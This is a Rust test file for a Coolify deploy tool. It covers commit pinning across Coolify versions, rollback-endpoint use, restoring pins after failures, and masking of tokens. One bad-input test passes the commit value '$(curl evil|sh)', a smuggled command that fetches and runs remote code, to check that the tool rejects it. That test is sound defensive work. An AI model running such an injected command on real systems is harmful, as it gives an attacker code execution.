//! coolify-deploy on git-based apps (nixpacks, dockerfile, static, dockercompose) as users
//! run it, against the sandbox Coolify version by version. Each test names the Coolify source
//! it mirrors (coollabsio/coolify; 379abb25 is main at 4.3.11).

#![allow(clippy::unwrap_used, clippy::expect_used)] // a failed unwrap is a failed test

use std::time::Duration;

use sandbox::coolify::{Coolify, Forced, Script, TOKEN};
use sandbox::harness::ToolRun;
use serde_json::{Value, json};

const BIN: &str = env!("CARGO_BIN_EXE_coolify-deploy");
const GIT: &str = "gitappuuid00000000000001";
const IMG: &str = "imgappuuid00000000000002";
const C1: &str = "1111111111111111111111111111111111111111";
const C2: &str = "2222222222222222222222222222222222222222";
const C3: &str = "3333333333333333333333333333333333333333";
const WORKFLOW_SHA: &str = "9999999999999999999999999999999999999999";

/// A nixpacks app whose branch has C1 and C2 (running C2), then a push of C3.
fn sandbox(version: &str) -> Coolify {
    let coolify = Coolify::start().unwrap();
    coolify
        .set_version(version)
        .add_git_app(GIT, "shop", "nixpacks", &[C1, C2])
        .add_app(IMG, "api", "ghcr.io/acme/api", "main-1111111")
        .default_script(Script::finishes_after(Duration::from_millis(150)))
        .push(GIT, C3);
    coolify
}

fn deploy(coolify: &Coolify, app: &str) -> ToolRun {
    ToolRun::new(BIN)
        .input("coolify-url", &coolify.url())
        .input("coolify-token", TOKEN)
        .input("app", app)
        .input("poll-interval", "50ms")
}

/// (method, path, body) of every call that changes something.
fn writes(coolify: &Coolify) -> Vec<(String, String, Option<Value>)> {
    coolify
        .requests()
        .into_iter()
        .filter(|r| r.method != "GET")
        .map(|r| (r.method, r.path, r.body))
        .collect()
}

fn pin_of(coolify: &Coolify) -> String {
    coolify.app(GIT).unwrap().git.unwrap().pin
}

// ApplicationsController.php rollback_by_uuid L5575–5666 (379abb25), route routes/api.php
// L269: the commit goes to /rollback and is built as given; nothing is pinned.
#[test]
fn on_4_3_11_a_commit_is_deployed_through_the_rollback_endpoint() {
    let coolify = sandbox("4.3.11");
    let run = deploy(&coolify, GIT).input("commit", C2).run();
    run.assert_exit(0);
    assert_eq!(
        writes(&coolify),
        vec![(
            "POST".to_owned(),
            format!("/applications/{GIT}/rollback"),
            Some(json!({"commit": C2}))
        )]
    );
    assert_eq!(coolify.deployment_commits(GIT), vec![C2]);
    assert_eq!(pin_of(&coolify), "HEAD");
    let commits: Value = serde_json::from_str(run.output("commits")).unwrap();
    assert_eq!(commits, json!({ GIT: C2 }));
    assert_eq!(run.report()["commit"], C2);
    assert!(run.stdout.contains("of commit 2222222"), "{}", run.stdout);
}

// The `commit` input defaults to GITHUB_SHA for a git-based app; v4.3.0 is the first
// release with /rollback (routes/api.php L268 at v4.3.0; absent at v4.2.0).
#[test]
fn the_workflow_commit_is_the_default_and_v4_3_0_uses_rollback() {
    let coolify = sandbox("v4.3.0");
    coolify.push(GIT, WORKFLOW_SHA);
    let run = deploy(&coolify, GIT).env("GITHUB_SHA", WORKFLOW_SHA).run();
    run.assert_exit(0);
    assert_eq!(coolify.deployment_commits(GIT), vec![WORKFLOW_SHA]);
    assert!(
        coolify
            .requests()
            .iter()
            .any(|r| r.path == format!("/applications/{GIT}/rollback")),
        "{:?}",
        writes(&coolify)
    );
}

// applications.php L16 (v4.2.0): a deploy builds `git_commit_sha` when set; the job keeps a
// pinned commit since 7a853efa79 (job L2369, v4.2.0). The pin is read by every later deploy,
// so it is put back to HEAD after the deploy.
#[test]
fn on_4_2_0_the_commit_is_pinned_deployed_and_the_pin_put_back() {
    let coolify = sandbox("4.2.0");
    let run = deploy(&coolify, GIT).input("commit", C2).run();
    run.assert_exit(0);
    let writes = writes(&coolify);
    assert_eq!(
        writes,
        vec![
            (
                "PATCH".to_owned(),
                format!("/applications/{GIT}"),
                Some(json!({"git_commit_sha": C2}))
            ),
            ("POST".to_owned(), "/deploy".to_owned(), None),
            (
                "PATCH".to_owned(),
                format!("/applications/{GIT}"),
                Some(json!({"git_commit_sha": "HEAD"}))
            ),
        ]
    );
    assert_eq!(coolify.deployment_commits(GIT), vec![C2]);
    assert_eq!(pin_of(&coolify), "HEAD");
    assert_eq!(run.report()["commit_pins"][0]["restored"], true);
    assert!(
        run.summary.contains("commit pin of") && run.summary.contains("put back to"),
        "{}",
        run.summary
    );
    // A later deploy (a push webhook, the UI) builds the branch head again.
    coolify.start_deployment(GIT).unwrap();
    assert_eq!(coolify.deployment_commits(GIT), vec![C2, C3]);
}

// The same pin on 4.2.0 is put back whatever happens: a failed build (job: the new container
// is not healthy), a build still running at the timeout (cancelled), and a server error on
// the deploy request itself.
#[test]
fn on_4_2_0_the_pin_is_put_back_after_failure_timeout_and_error() {
    for (case, want_exit) in [("failed", 1), ("timeout", 1), ("error", 3)] {
        let coolify = sandbox("4.2.0");
        match case {
            "failed" => {
                coolify.script(
                    C2,
                    Script::fails_after(Duration::from_millis(100), &["boom"]),
                );
            }
            "timeout" => {
                coolify.script(C2, Script::never_ends());
            }
            _ => {
                // Every send fails before Coolify queued anything: the request is sent
                // again after a look at the app's deployments (at most three times), then
                // the run stops with the error.
                for _ in 0..3 {
                    coolify.force(Forced::new(
                        "/api/v1/deploy",
                        500,
                        json!({"message": "Server Error"}),
                    ));
                }
            }
        }
        let run = deploy(&coolify, GIT)
            .input("commit", C2)
            .input("timeout", "2s")
            .run();
        run.assert_exit(want_exit);
        assert_eq!(pin_of(&coolify), "HEAD", "{case}: {}", run.everything());
        let last = writes(&coolify).pop().unwrap();
        assert_eq!(
            last.2,
            Some(json!({"git_commit_sha": "HEAD"})),
            "{case}: the pin is put back last"
        );
    }
}

// A pin the user had set before is what is put back, not HEAD.
#[test]
fn on_4_2_0_a_pin_set_by_hand_is_put_back_as_it_was() {
    let coolify = sandbox("4.2.0");
    // A user pinned C1 by hand in the UI.
    coolify.pin(GIT, C1);
    let run = deploy(&coolify, GIT).input("commit", C2).run();
    run.assert_exit(0);
    assert_eq!(pin_of(&coolify), C1);
}

// Before 4.2.0 the job replaced any pin with `git ls-remote`'s branch head (job L2327 before
// 7a853efa79), and there is no /rollback: a chosen commit cannot be deployed. Exit 2, and
// nothing was changed.
#[test]
fn before_4_2_0_a_commit_deploy_is_refused_with_exit_2() {
    for version in ["4.1.2", "4.0.0-beta.420"] {
        let coolify = sandbox(version);
        let run = deploy(&coolify, GIT).input("commit", C2).run();
        run.assert_exit(2);
        run.assert_one_error_line();
        assert!(
            run.stderr
                .contains("pinning a commit is not supported before 4.2.0"),
            "{version}: {}",
            run.stderr
        );
        assert_eq!(writes(&coolify), vec![], "{version}");
    }
}

// ApplicationDeploymentJob.php L1202 (v4.2.0): a git build tags its image with the commit
// and never reads docker_registry_image_tag. `image-tag` on such an app is a usage error.
#[test]
fn image_tag_on_a_git_app_is_a_usage_error_that_explains() {
    let coolify = sandbox("4.3.11");
    let run = deploy(&coolify, GIT)
        .input("image-tag", "main-2222222")
        .run();
    run.assert_exit(2);
    run.assert_one_error_line();
    for words in ["built by nixpacks", "ignores the image tag", "`commit:"] {
        assert!(run.stderr.contains(words), "{words}: {}", run.stderr);
    }
    assert_eq!(writes(&coolify), vec![]);
}

#[test]
fn commit_on_an_image_app_is_a_usage_error() {
    let coolify = sandbox("4.3.11");
    let run = deploy(&coolify, IMG).input("commit", C2).run();
    run.assert_exit(2);
    run.assert_one_error_line();
    assert!(run.stderr.contains("Docker-image app"), "{}", run.stderr);
    assert!(run.stderr.contains("`image-tag`"), "{}", run.stderr);
    assert_eq!(writes(&coolify), vec![]);
    // The workflow's GITHUB_SHA alone is no error: image apps keep their image tag.
    let run = deploy(&coolify, IMG).env("GITHUB_SHA", WORKFLOW_SHA).run();
    run.assert_exit(0);
}

#[test]
fn a_commit_with_a_coolify_tag_target_is_a_usage_error() {
    let coolify = sandbox("4.3.11");
    let run = ToolRun::new(BIN)
        .input("coolify-url", &coolify.url())
        .input("coolify-token", TOKEN)
        .input("tag", "shop")
        .input("commit", C2)
        .run();
    run.assert_exit(2);
    assert!(run.stderr.contains("needs `app`"), "{}", run.stderr);
    assert!(coolify.requests().is_empty());
}

// ApplicationsController.php L5648–5650 (379abb25): a full queue answers 400 on /rollback.
#[test]
fn a_full_queue_on_the_rollback_endpoint_exits_3_naming_it() {
    let coolify = sandbox("4.3.11");
    coolify.queue_limit(0);
    let run = deploy(&coolify, GIT).input("commit", C2).run();
    run.assert_exit(3);
    assert!(
        run.stderr.contains("Deployment queue is full"),
        "{}",
        run.stderr
    );
}

// The GitHub Deployment record names the commit Coolify builds (`commit`), not the
// workflow's GITHUB_SHA.
#[test]
fn the_github_deployment_record_names_the_deployed_commit() {
    let coolify = sandbox("4.3.11");
    let github = sandbox::github::GitHub::start().unwrap();
    let run = deploy(&coolify, GIT)
        .input("commit", C2)
        .input("github-deployment", "true")
        .input("github-token", sandbox::github::TOKEN)
        .env("GITHUB_API_URL", &github.api_url())
        .env("GITHUB_REPOSITORY", sandbox::github::REPOSITORY)
        .env("GITHUB_SHA", WORKFLOW_SHA)
        .run();
    run.assert_exit(0);
    let deployments = github.deployments();
    assert_eq!(deployments.len(), 1);
    let (sha, _, payload, states) = &deployments[0];
    assert_eq!(sha, C2);
    assert_eq!(payload["commit"], C2);
    assert_eq!(states.last().map(String::as_str), Some("success"));
    assert_eq!(coolify.deployment_commits(GIT), vec![C2]);
}

#[test]
fn bad_commit_inputs_exit_2_before_any_request() {
    let coolify = sandbox("4.3.11");
    let cases = [
        (
            deploy(&coolify, GIT).input("commit", "2222222"),
            "exactly 40 hexadecimal digits",
        ),
        (
            deploy(&coolify, GIT).input("commit", "$(curl evil|sh)"),
            "`commit`",
        ),
        (
            deploy(&coolify, GIT)
                .input("commit", C2)
                .input("image-tag", "main-2222222"),
            "both `image-tag` and `commit`",
        ),
        (
            ToolRun::new(BIN)
                .input("webhook-url", "https://hooks.example.com/x")
                .input("commit", C2),
            "the deploy webhook gets only",
        ),
    ];
    for (run, needle) in cases {
        let run = run.run();
        run.assert_exit(2);
        run.assert_one_error_line();
        assert!(run.stderr.contains(needle), "{needle}: {}", run.stderr);
    }
    assert!(coolify.requests().is_empty(), "bad input must send nothing");
}

// applications.php L56 (379abb25): `/rollback` is never deduplicated, so a build of the same
// commit already running (a push webhook's) is followed, not queued a second time.
#[test]
fn a_build_of_the_same_commit_already_running_is_followed() {
    let coolify = sandbox("4.3.11");
    coolify.script(C3, Script::finishes_after(Duration::from_millis(400)));
    // The push of C3 made Coolify build the branch head.
    let running = coolify.start_deployment(GIT).unwrap();
    let run = deploy(&coolify, GIT).input("commit", C3).run();
    run.assert_exit(0);
    assert_eq!(coolify.deployment_commits(GIT), vec![C3]);
    assert_eq!(run.output("deployment-uuids"), running);
    assert!(writes(&coolify).is_empty(), "{:?}", writes(&coolify));
}

// A pin that cannot be put back is an operational failure (exit 3) naming the app, the
// commit it is stuck on and what to reset, after the outputs are written; the token never
// shows.
#[test]
fn a_pin_that_cannot_be_put_back_exits_3_and_says_what_to_fix() {
    let coolify = sandbox("4.2.0");
    coolify.refuse_unpin(GIT);
    let secret = "7|SENTINEL-git-token-do-not-print";
    coolify.add_token(secret, &["root"], false);
    let run = deploy(&coolify, GIT)
        .input("coolify-token", secret)
        .input("commit", C2)
        .run();
    run.assert_exit(3);
    run.assert_one_error_line();
    for words in [
        format!("commit pin of app {GIT}"),
        format!("builds {C2}"),
        "set Git Commit SHA back to HEAD".to_owned(),
    ] {
        assert!(
            run.stderr.contains(words.as_str()),
            "{words}: {}",
            run.stderr
        );
    }
    assert_eq!(run.output("status"), "finished");
    assert_eq!(run.report()["commit_pins"][0]["restored"], false);
    assert!(run.summary.contains("NOT put back"), "{}", run.summary);
    // Only the mask command itself names the token.
    let everything = run.everything();
    let shown: Vec<&str> = everything
        .lines()
        .filter(|l| l.contains("SENTINEL"))
        .collect();
    assert_eq!(shown, vec![format!("::add-mask::{secret}")], "{everything}");
}
